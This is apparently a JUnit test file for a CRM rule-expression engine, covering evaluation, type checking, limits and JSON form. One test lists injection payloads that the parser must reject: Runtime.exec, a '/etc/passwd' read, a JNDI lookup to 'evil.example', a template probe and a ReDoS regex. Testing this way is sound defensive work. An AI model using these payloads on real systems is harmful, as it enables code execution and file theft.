package io.parley.automation.rule;

import static io.parley.automation.rule.Condition.expr;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.parley.automation.rule.FieldTypes.Type;
import io.parley.core.json.Json;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ExpressionTest {
  private static final Map<String, Object> FACTS =
      Map.ofEntries(
          Map.entry("event.type", "lead.status_changed"),
          Map.entry("lead.id", 17),
          Map.entry("lead.name", "Ana Pérez"),
          Map.entry("lead.price", "1500.50"),
          Map.entry("lead.statusId", 142L),
          Map.entry("lead.tags", List.of("vip", "new")),
          Map.entry("lead.createdAt", "2026-11-23T12:00:00Z"),
          Map.entry("lead.fields.1024", "red"),
          Map.entry("was.lead.statusId", 141),
          Map.entry("now.time", "17:30"),
          Map.entry("now.inBusinessHours", true));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "lead.price > 1000 && 'vip' in lead.tags",
        "lead.price == 1500.5",
        "lead.statusId == 142",
        "lead.statusId in [142, 143]",
        "was.lead.statusId == 141 && lead.statusId == 142",
        "lead.name.startsWith('Ana')",
        "lead.name.matches('^Ana .*z$')",
        "has(lead.price) && !has(lead.pipelineId)",
        "!has(contact.email)",
        "lead.fields['1024'] == 'red'",
        "lead.createdAt < timestamp('2026-12-01T00:00:00Z')",
        "lead.tags.exists(tag, tag == 'vip')",
        "now.time >= '09:00' && now.inBusinessHours",
        "event.type == 'lead.status_changed'",
        "has(contact.email) ? contact.email == 'x' : true"
      })
  void what_is_true_holds_and_is_saved(String text) {
    assertThat(expr(text).holds(FACTS)).isTrue();
    assertThat(expr(text).explain(FACTS).why()).isEqualTo("it is true");
    assertThat(FieldTypes.standard().problems(expr(text))).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "lead.price > 2000",
        "lead.pipelineId == 1",
        "contact.email == 'x'",
        "lead.fields.unknown == 'x'",
        "[1,2,3,4,5,6,7,8,9,10].all(a, [1,2,3,4,5,6,7,8,9,10].all(b,"
            + " [1,2,3,4,5,6,7,8,9,10].all(c, [1,2,3,4,5,6,7,8,9,10].all(d, true))))"
      })
  void what_is_false_or_cannot_be_answered_does_not_hold(String text) {
    assertThat(expr(text).holds(FACTS)).isFalse();
  }

  @Test
  void a_question_that_cannot_be_answered_says_why() {
    assertThat(expr("lead.pipelineId == 1").explain(FACTS).why())
        .isEqualTo("key 'pipelineId' is not present in map.");
    assertThat(expr("lead.price > 2000").explain(FACTS).why()).isEqualTo("it is false");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      textBlock =
          """
          lead.price >                                       | line 1, column
          lead.getClass()                                    | line 1, column 14
          T(java.lang.Runtime).getRuntime().exec('id')       | line 1, column
          new java.io.File('/etc/passwd').exists()           | line 1, column
          ${jndi:ldap://evil.example/a}                      | line 1, column
          #{7*7}                                             | line 1, column
          lead.name.matches('((a{999}){999}){999}')          | line 1, column 18
          lead.name.matches('(')                             | line 1, column
          1 + 1                                              | expected type 'bool'
          lead.price = 7                                     | line 1, column
          """)
  void code_is_refused_with_its_position(String text, String message) {
    assertThatThrownBy(() -> new Expression(text))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining(message);
  }

  @Test
  void size_and_depth_are_bounded() {
    assertThatThrownBy(() -> new Expression("true" + " && true".repeat(10_000)))
        .hasMessage("expression of 80004 characters must have 1 to 2000");
    assertThatThrownBy(() -> new Expression("(".repeat(50) + "true" + ")".repeat(50)))
        .hasMessageContaining("recursion limit");
    assertThatThrownBy(() -> new Expression("[" + "1,".repeat(900) + "1] == []"))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new Expression(" ")).hasMessageContaining("must have 1 to 2000");
  }

  @Test
  void a_pattern_that_hangs_other_engines_is_answered() {
    var slow = expr("message.text.matches('(.*a){25}$')");

    assertThat(slow.holds(Map.of("message.text", "a".repeat(40) + "b"))).isFalse();
    assertThat(slow.holds(Map.of("message.text", "a".repeat(40)))).isTrue();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      textBlock =
          """
          lead.prise > 1              | expression at line 1, column 5: unknown field 'prise'
          deal.price > 1              | expression at line 1, column 1: unknown field or function 'deal'
          lead.price > 'much'         | expression at line 1, column 14: lead.price is a number and does not compare with a string
          lead.price == true          | lead.price is a number and does not compare with a bool
          lead.name > 5               | expression at line 1, column 11: found no matching overload for '_>_' applied to '(string, int)'
          was.lead.prise == 1         | unknown field 'prise'
          now.inBusinessHours == 'x'  | found no matching overload
          """)
  void what_does_not_fit_the_fields_is_found_when_it_is_saved(String text, String message) {
    assertThat(FieldTypes.standard().problems(Condition.all(expr(text))))
        .singleElement()
        .satisfies(
            problem -> {
              assertThat(problem.place()).isEqualTo("all[0].expr");
              assertThat(problem.message()).contains(message);
            });
  }

  @Test
  void custom_fields_are_checked_where_the_accounts_are_known() {
    FieldTypes open = FieldTypes.standard();
    FieldTypes known =
        open.withCustomFields("lead", Map.of("1024", Type.TEXT, "SIZE", Type.NUMBER));

    assertThat(open.problems(expr("lead.fields['7'] == 'x'"))).isEmpty();
    assertThat(known.problems(expr("lead.fields['1024'] == 'x' && lead.fields.SIZE > 3")))
        .isEmpty();
    assertThat(known.problems(expr("lead.fields['7'] == 'x'")))
        .singleElement()
        .satisfies(
            problem -> assertThat(problem.message()).contains("unknown field 'lead.fields.7'"));
    assertThat(known.problems(expr("lead.fields.SIZE > 'x'")))
        .singleElement()
        .satisfies(problem -> assertThat(problem.message()).contains("is a number"));
    assertThat(known.problems(Condition.field("lead.fields.7").eq("x"))).hasSize(1);
  }

  @Test
  void the_json_form_is_the_text() {
    Condition condition = expr("lead.price > 1000");

    assertThat(Json.write(condition.toJson())).isEqualTo("{\"expr\":\"lead.price > 1000\"}");
    assertThat(Condition.fromJson(condition.toJson())).isEqualTo(condition);
    assertThat(condition.things()).containsExactly("lead");
    assertThatThrownBy(() -> Condition.fromJson(Json.readMap("{\"expr\":7}")))
        .hasMessage("expr: must be a text");
  }
}
